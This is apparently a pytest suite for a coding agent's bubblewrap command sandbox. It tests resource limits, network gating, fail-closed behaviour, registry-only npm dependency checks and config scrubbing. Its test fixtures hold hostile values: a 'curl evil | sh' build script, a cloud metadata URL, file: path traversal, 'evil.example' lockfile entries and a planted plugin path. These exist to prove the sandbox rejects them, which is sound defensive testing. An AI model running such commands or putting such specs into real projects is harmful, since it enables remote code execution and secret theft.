"""The command sandbox's policy, checked against the real bwrap (issue 9 item 1): fail
closed without bwrap, an explicit and announced escape hatch, resource limits, the network
switch, and the dependency manifest accepting registry packages only."""

from __future__ import annotations

import json
import logging
import socket
import uuid
from pathlib import Path

import pytest

from runtime.engines.opencode.policy import permission_reply, scrub_project_config
from runtime.processes import CommandResult
from runtime.sandbox import DependencyError, Sandbox, announce
from runtime.sandbox.deps import read_manifest
from runtime.tools import Toolpack
from runtime.workspace import Workspace
from tests.support.sandbox import needs_bwrap
from tests.unit.toolpack_fixtures import make_context, make_settings

REGISTRY = "https://registry.npmjs.org/"


async def sandboxed(tmp_path: Path, script: str, **overrides) -> CommandResult:
    settings = make_settings(tmp_path, **overrides)
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    return await Sandbox(settings).run(
        ["sh", "-c", script], workspace, time_limit=60, max_output_bytes=20000
    )


async def test_command_tools_fail_closed_without_bwrap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    settings = make_settings(tmp_path, command_allowlist=("npm run lint",))
    ws = Workspace(tmp_path / "ws")
    out = await Toolpack(settings).call(
        "coding_agent_run_targeted_tests", {"command": "npm run lint"}, make_context(ws)
    )
    assert out["code"] == "SANDBOX_UNAVAILABLE"
    assert "apt-get install bubblewrap" in out["error"]


def test_unsandboxed_mode_is_explicit_and_announced(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    assert make_settings(tmp_path).sandbox == "bwrap"  # the default
    with caplog.at_level(logging.WARNING, logger="runtime.sandbox.runner"):
        announce(make_settings(tmp_path, sandbox="none"))
    assert "UNSANDBOXED" in caplog.text


@needs_bwrap
async def test_limits_apply_inside(tmp_path: Path) -> None:
    result = await sandboxed(
        tmp_path,
        "cat /proc/self/limits; head -c 3000000 /dev/zero > big; echo wrote=$?",
        sandbox_cpu_seconds=77,
        sandbox_max_processes=99,
        sandbox_max_file_bytes=2**20,
    )
    limits = {line[:26].strip(): line[26:].split() for line in result.stdout.splitlines()}
    assert limits["Max cpu time"][:2] == ["77", "77"]
    assert limits["Max processes"][:2] == ["99", "99"]
    assert limits["Max file size"][:2] == [str(2**20), str(2**20)]
    assert limits["Max core file size"][:2] == ["0", "0"]
    assert "wrote=0" not in result.stdout  # SIGXFSZ at 1 MiB
    assert (tmp_path / "ws" / "big").stat().st_size == 2**20


@needs_bwrap
@pytest.mark.parametrize("network", [False, True])
async def test_network_only_when_the_operator_allows_it(tmp_path: Path, network: bool) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        script = (
            "const s = require('net').connect(" + str(port) + ", '127.0.0.1');"
            "s.on('connect', () => { console.log('CONNECTED'); s.destroy(); });"
            "s.on('error', (e) => console.log('ERR', e.code));"
        )
        result = await sandboxed(tmp_path, f'node -e "{script}"', sandbox_network=network)
    assert result.stdout.strip() == ("CONNECTED" if network else "ERR ECONNREFUSED")


@needs_bwrap
async def test_the_workspace_is_handed_to_the_sandbox_uid(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "a.txt").write_text("root wrote this\n")
    (workspace / "node_modules").symlink_to("/")  # a planted node_modules is dropped
    result = await sandboxed(
        tmp_path, "id -u; echo more >> a.txt; ls -A; ls /work/node_modules 2>&1 | head -1"
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "65534"
    assert "node_modules" not in lines[1:-1]
    assert (workspace / "a.txt").read_text() == "root wrote this\nmore\n"
    assert (workspace / "a.txt").stat().st_uid == 65534


# ---- the dependency manifest ------------------------------------------------------------


def _manifest(tmp_path: Path, deps: dict, lock: dict | None = None, **extra) -> Path:
    root = tmp_path / uuid.uuid4().hex
    root.mkdir()
    doc = {"name": "x", "scripts": {"build": "tsc"}, "dependencies": deps, **extra}
    (root / "package.json").write_text(json.dumps(doc))
    if lock is not None:
        (root / "package-lock.json").write_text(json.dumps(lock))
    return root


@pytest.mark.parametrize(
    "spec",
    [
        "file:../../..",
        "link:../other",
        "git+https://example.com/x.git",
        "git+ssh://git@example.com/x.git",
        "https://example.com/x.tgz",
        "http://169.254.169.254/latest",
        "user/repo",
        "github:user/repo",
        "workspace:*",
        "npm:react@file:../x",
        "18.3.1 #frag",
    ],
)
def test_only_registry_specs_are_installed(tmp_path: Path, spec: str) -> None:
    with pytest.raises(DependencyError):
        read_manifest(_manifest(tmp_path, {"react": spec}), REGISTRY)


@pytest.mark.parametrize(
    "spec", ["18.3.1", "^18.3.1", "~1.2", "1.x", ">=1.2.3 <2 || 3.0.0-beta.1", "latest",
             "npm:react@18.3.1", "*"],
)  # fmt: skip
def test_registry_specs_are_accepted(tmp_path: Path, spec: str) -> None:
    assert read_manifest(_manifest(tmp_path, {"react": spec}), REGISTRY) is not None


def test_the_key_ignores_scripts_but_not_dependencies(tmp_path: Path) -> None:
    first = read_manifest(_manifest(tmp_path, {"react": "18.3.1"}), REGISTRY)
    rescripted = _manifest(tmp_path, {"react": "18.3.1"}, scripts={"build": "curl evil | sh"})
    bumped = read_manifest(_manifest(tmp_path, {"react": "18.3.0"}), REGISTRY)
    assert first is not None and bumped is not None
    assert read_manifest(rescripted, REGISTRY) == first
    assert b"scripts" not in first.package_json
    assert bumped.key != first.key
    assert read_manifest(_manifest(tmp_path, {}), REGISTRY) is None  # nothing to install


@pytest.mark.parametrize(
    "entry",
    [
        {"version": "1.0.0", "resolved": "https://evil.example/x-1.0.0.tgz"},
        {"version": "1.0.0", "resolved": "git+ssh://git@github.com/a/b.git"},
        {"version": "file:../x"},
        {"link": True, "resolved": "../x"},
    ],
)
def test_lockfile_entries_must_come_from_the_registry(tmp_path: Path, entry: dict) -> None:
    lock = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/x": entry}}
    with pytest.raises(DependencyError):
        read_manifest(_manifest(tmp_path, {"x": "1.0.0"}, lock), REGISTRY)
    ok = {"version": "1.0.0", "resolved": f"{REGISTRY}x/-/x-1.0.0.tgz"}
    good = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/x": ok}}
    assert read_manifest(_manifest(tmp_path, {"x": "1.0.0"}, good), REGISTRY) is not None


def test_a_symlinked_manifest_is_not_followed(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "package.json").symlink_to("/etc/hostname")
    with pytest.raises(DependencyError, match="regular file"):
        read_manifest(root, REGISTRY)


# ---- OpenCode's own configuration is not the model's -----------------------------------


def test_opencode_project_config_is_scrubbed_and_never_edited(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    (workspace / ".opencode" / "plugin").mkdir(parents=True)
    (workspace / "opencode.json").write_text("{}")
    (workspace / "opencode.jsonc").symlink_to("/etc/hostname")
    (workspace / "src").mkdir()
    assert sorted(scrub_project_config(workspace)) == [
        ".opencode", "opencode.json", "opencode.jsonc",
    ]  # fmt: skip
    assert sorted(p.name for p in workspace.iterdir()) == ["src"]
    for path, reply in [
        (".opencode/plugin/evil.js", "reject"),
        ("opencode.json", "reject"),
        ("src/App.tsx", "once"),
    ]:
        request = {"permission": "edit", "metadata": {"filepath": str(workspace / path)}}
        assert permission_reply(request, workspace) == reply, path
